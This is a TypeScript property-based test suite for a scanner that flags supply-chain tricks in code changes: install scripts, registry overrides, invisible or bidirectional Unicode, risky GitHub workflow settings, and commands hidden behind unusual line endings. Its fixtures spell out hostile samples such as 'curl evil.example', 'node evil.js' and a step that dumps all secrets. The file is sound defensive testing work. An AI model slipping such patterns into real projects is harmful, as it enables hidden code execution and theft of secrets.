/** What the rules promise wherever in a file, and among whatever else, the one bad thing stands. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { stringify } from 'yaml'
import type { FileChange } from '../../../worker/contract/index.ts'
import { delayedExecutionGate } from '../../../worker/gates/delayed-execution/delayed-execution-gate.ts'
import { reachedScripts } from '../../../worker/gates/delayed-execution/rules/packages/reached-scripts.ts'
import { yamlStyles } from '../../fixtures/yaml-styles.ts'
import { added, changed, findingsOf } from '../gate-input.ts'

const rulesOf = async (...files: readonly FileChange[]) =>
  (await findingsOf(delayedExecutionGate, files)).map(({ rule, line }) => ({ rule, line }))

/** Lines, one of them put in at a place, and the number that it has there. */
function inserted(line: fc.Arbitrary<string>, bad: fc.Arbitrary<string>) {
  return fc
    .tuple(fc.array(line, { maxLength: 8 }), bad, fc.nat(8), fc.constantFrom('\n', '\r\n'))
    .map(([all, one, at, end]) => {
      const place = Math.min(at, all.length)
      return { before: all.join(end), after: all.toSpliced(place, 0, one).join(end), number: place + 1 }
    })
}

describe('a bad line is found at its place, and the lines around it are not', () => {
  const word = fc.stringMatching(/^[a-z]{1,6}$/)
  const blanks = fc.stringMatching(/^[ \t]{1,4}$/)
  const attributes = {
    path: '.gitattributes',
    rule: 'git-attributes',
    line: word.map((name) => `*.${name} text diff=python merge=union`),
    bad: fc
      .tuple(word, blanks, fc.constantFrom('filter=x', 'diff=x', 'merge=x'), fc.boolean())
      .map(([name, gap, driver, more]) => `*.${name}${gap}${driver}${more ? `${gap}-text` : ''}`),
  }
  const npmrc = {
    path: 'sub/.npmrc',
    rule: 'npm-config',
    line: fc
      .tuple(fc.constantFrom('save-exact', 'fund', '; registry', '# node-options'), word)
      .map((parts) => parts.join('=')),
    bad: fc
      .tuple(
        fc.constantFrom('registry', 'REGISTRY', 'node-options', '@acme:registry', 'script-shell'),
        fc.constantFrom('=', ' = '),
        word,
      )
      .map((parts) => parts.join('')),
  }
  const code = fc.oneof(
    word.map((name) => `const ${name} = 1`),
    fc.constantFrom('// Привет, мир', '// 👍🏽 ❤️ 👨‍👩‍👧', 'שלום', '', '  }'),
  )
  const unicode = (rule: string, bad: fc.Arbitrary<string>) => ({
    ...{ path: 'src/a.ts', rule, line: code },
    bad: fc.tuple(word, bad, word).map((parts) => parts.join('')),
  })

  it.each([
    attributes,
    npmrc,
    unicode('bidi-control', fc.constantFrom('\u202e', '\u202d', '\u2066')),
    unicode('tag-characters', fc.constantFrom('\u{e0041}', '\u{e0061}\u{e0062}')),
    unicode(
      'unseen-characters',
      fc.constantFrom('\u200b\u200b\u200b\u200b', '\u200c\u200d\u200b\u2060\u200b', '\u3164'),
    ),
    unicode('variation-selectors', fc.constantFrom('\ufe00\ufe01', '\u{e0100}\u{e0101}', '\u{e01ef}')),
    unicode('mixed-script-name', fc.constantFrom('а', 'е', 'о', 'ο')),
  ])('$rule in $path', async ({ path, rule, line, bad }) => {
    await fc.assert(
      fc.asyncProperty(inserted(line, bad), async ({ before, after, number }) => {
        const found = await rulesOf(changed(path, before, after))
        expect(found.map((one) => one.rule)).toContain(rule)
        if (path !== 'sub/.npmrc') expect(found).toContainEqual({ rule, line: number })
        expect(found.filter((one) => one.rule === rule)).toHaveLength(1)
        const quiet = await rulesOf(changed(path, '', before))
        expect(quiet.filter((one) => one.rule === rule)).toEqual([])
      }),
    )
  })
})

describe('a manifest', () => {
  const harmless = fc.dictionary(
    fc.constantFrom('test', 'lint', 'start', 'pretest', 'docs'),
    fc.constantFrom('vitest', 'node a.js', 'npm run lint'),
  )
  const install = fc.constantFrom('preinstall', 'install', 'postinstall', 'prepare', 'preprepare', 'prepublish')
  const layout = fc.constantFrom(0, 1, 2, '\t')

  it('that gains a script for its installation is blocked wherever the script stands, and however it is written', async () => {
    await fc.assert(
      fc.asyncProperty(harmless, install, fc.nat(5), layout, async (scripts, name, at, indent) => {
        const entries = Object.entries<string>(scripts).toSpliced(at, 0, [name, 'node evil.js'])
        const [before, after] = [{ scripts }, { name: 'x', scripts: Object.fromEntries(entries) }]
        const text = JSON.stringify(after, null, indent)

        const found = await rulesOf(changed('a/package.json', JSON.stringify(before), text))
        const number = text.split('\n').findIndex((line) => line.includes(`"${name}"`)) + 1
        expect(found).toContainEqual({ rule: 'npm-install-script', line: number })
      }),
    )
  })

  it('that only changes its layout and its order, or scripts that a person calls, is not', async () => {
    await fc.assert(
      fc.asyncProperty(harmless, harmless, install, layout, async (scripts, others, name, indent) => {
        const before = { scripts: { ...scripts, [name]: 'node build.js' } }
        const turned = { scripts: { [name]: 'node build.js', ...others } }

        const found = await rulesOf(
          changed('package.json', JSON.stringify(before), JSON.stringify(turned, null, indent)),
        )
        expect(found.filter(({ rule }) => /^npm-.*script$/.test(rule))).toEqual([])
      }),
    )
  })

  it('leads from its installation to every script that is called in the end, and to each once', () => {
    const names = fc.uniqueArray(fc.stringMatching(/^[a-z][a-z:.-]{0,8}[a-z]$/), { minLength: 1, maxLength: 8 })
    const caller = fc.constantFrom('npm run', 'yarn', 'pnpm run', 'bun run', 'run-s')
    fc.assert(
      fc.property(names, fc.array(caller, { minLength: 8, maxLength: 8 }), fc.boolean(), (chain, callers, loops) => {
        fc.pre(!chain.includes('run') && !chain.includes('install'))
        const next = [...chain.slice(1), ...(loops ? [chain[0] ?? ''] : [])]
        const scripts = Object.fromEntries(
          chain.map((name, at) => [name, next[at] === undefined ? 'node end.js' : `tsc && ${callers[at]} ${next[at]}`]),
        )
        const document = { scripts: { ...scripts, install: `npm run ${chain[0]}`, 'not-called': 'x' } }

        const found = reachedScripts(document, ['install']).map(([label]) => label)
        expect(found.toSorted()).toEqual(chain.map((name) => `scripts.${name}`).toSorted())
      }),
    )
  })
})

describe('a workflow', () => {
  const sha = 'f'.repeat(40)
  const path = '.github/workflows/ci.yml'
  const step = fc.oneof(
    fc.record({ uses: fc.constantFrom(`acme/a@${sha}`, './local') }),
    fc.record({ name: fc.constantFrom('a', 'b'), run: fc.constantFrom('make', 'npm test\n') }),
  )
  const job = fc.record({
    'runs-on': fc.constantFrom('ubuntu-latest', 'windows-2025'),
    steps: fc.array(step, { minLength: 1, maxLength: 3 }),
  })
  const workflow = fc.record({
    on: fc.constantFrom('push', ['push', 'pull_request'], { push: { branches: ['main'] } }),
    permissions: fc.constantFrom<Record<string, string>>({}, { contents: 'read' }),
    jobs: fc.dictionary(fc.constantFrom('build', 'test', 'lint'), job, { minKeys: 1 }),
  })
  type Workflow = { on: unknown; permissions: Record<string, string>; jobs: Record<string, { steps: object[] }> }
  const style = fc.record(yamlStyles)

  const putStep = (bad: object) => (all: Workflow, job: number, at: number) => {
    const jobs = Object.values(all.jobs)
    jobs[job % jobs.length]?.steps.splice(at, 0, bad)
  }
  it.each([
    ['workflow-unpinned-action', putStep({ uses: 'evil/x@v1' })],
    ['workflow-secret', putStep({ run: 'deploy', env: { T: `\${{ secrets.DEPLOY }}` } })],
    ['workflow-secrets-dump', putStep({ run: `echo \${{ toJSON(secrets) }}` })],
    ['workflow-untrusted-text', putStep({ run: `echo \${{ github.event.issue.title }}` })],
    ['workflow-weak-condition', putStep({ run: 'x', if: "github.actor == 'bot[bot]'" })],
    ['workflow-unsecure-commands', putStep({ run: 'x', env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true } })],
    ['workflow-strangers-trigger', (all: Workflow) => Object.assign(all, { on: ['push', 'pull_request_target'] })],
    ['workflow-permissions', (all: Workflow) => Object.assign(all.permissions, { packages: 'write' })],
    [
      'workflow-own-runner',
      (all: Workflow, job: number) => {
        const jobs = Object.values(all.jobs)
        Object.assign(jobs[job % jobs.length] ?? {}, { 'runs-on': ['self-hosted', 'linux'] })
      },
    ],
  ] as const)(
    'that gains something bad is told so, wherever it stands and however it is written: %s',
    async (rule, spoil) => {
      await fc.assert(
        fc.asyncProperty(workflow, fc.nat(5), fc.nat(5), style, async (before, at, place, written) => {
          const after: Workflow = structuredClone(before)
          spoil(after, at, place)

          const found = await rulesOf(changed(path, stringify(before), stringify(after, written)))
          expect(found.map((one) => one.rule)).toContain(rule)
          const fresh = await rulesOf(added(path, JSON.stringify(after)))
          expect(fresh.map((one) => one.rule)).toContain(rule)
        }),
        { numRuns: 60 },
      )
    },
  )

  it('that is only written in another way is not held', async () => {
    await fc.assert(
      fc.asyncProperty(workflow, style, async (value, written) => {
        const turned = Object.fromEntries(Object.entries(value).toReversed())
        expect(await rulesOf(changed(path, stringify(value), `# note\n${stringify(turned, written)}`))).toEqual([])
      }),
    )
  })
})

describe('what readers do not cut into the same lines', () => {
  const workflow = 'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make # it\n'
  const disputed = fc.constantFrom('\r', '\u0085', '\u2028', '\u2029')

  it('is not taken for what it was, wherever such a line end stands and whatever is behind it', async () => {
    const bad = fc.constantFrom('      - run: curl evil.example', 'on: pull_request_target', ' ')
    await fc.assert(
      fc.asyncProperty(disputed, bad, fc.nat(workflow.length), async (end, hidden, at) => {
        const after = `${workflow.slice(0, at)} #${end}${hidden}\n${workflow.slice(at)}`
        expect(await rulesOf(changed('.github/workflows/ci.yml', workflow, after))).not.toEqual([])
      }),
    )
  })

  it.each([
    ['pnpm-workspace.yaml', 'packages: [a]\n', 'packages: [a] #\ronlyBuiltDependencies: [evil]\n'],
    ['.pre-commit-config.yaml', 'repos: []\n', 'repos: #\r  [{ repo: local, hooks: [{ id: x, entry: x }] }]\n'],
    ['.vscode/tasks.json', '{}', '{//\r"tasks": [{ "command": "x", "runOptions": { "runOn": "folderOpen" } }]\n}'],
    ['.devcontainer/devcontainer.json', '{}', '{// \u2028/*\n"postCreateCommand": "x"\n// \u2028*/\n}'],
  ])('hides nothing in %s behind a comment', async (path, before, after) => {
    expect(await rulesOf(changed(path, before, after))).toContainEqual({ rule: 'unreadable-file', line: null })
    const shown = after.replaceAll('\r', '\n').replaceAll(/\/\/ \u2028/g, '//')
    const found = await rulesOf(changed(path, before, shown))
    expect(found).not.toContainEqual({ rule: 'unreadable-file', line: null })
  })
})

describe('a tree', () => {
  const segment = fc.stringMatching(/^[a-z]{1,4}$/)
  const path = fc.array(segment, { minLength: 1, maxLength: 3 }).map((parts) => parts.join('/'))

  it('with two spellings of one name is caught, whichever the change brings, and one with none is not', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uniqueArray(path, { minLength: 1, maxLength: 5 }), fc.nat(), async (paths, at) => {
        const twin = paths[at % paths.length] ?? ''
        const other = twin.toUpperCase()
        const collides = (found: readonly { rule: string }[]) => found.some(({ rule }) => rule === 'name-collision')

        const files = paths.map((name) => added(name, 'x\n'))
        expect(collides(await findingsOf(delayedExecutionGate, [...files, added(other, 'x\n')]))).toBe(true)
        expect(collides(await findingsOf(delayedExecutionGate, [added(other, 'x\n')], { basePaths: paths }))).toBe(true)
        expect(collides(await findingsOf(delayedExecutionGate, files))).toBe(false)
      }),
    )
  })
})
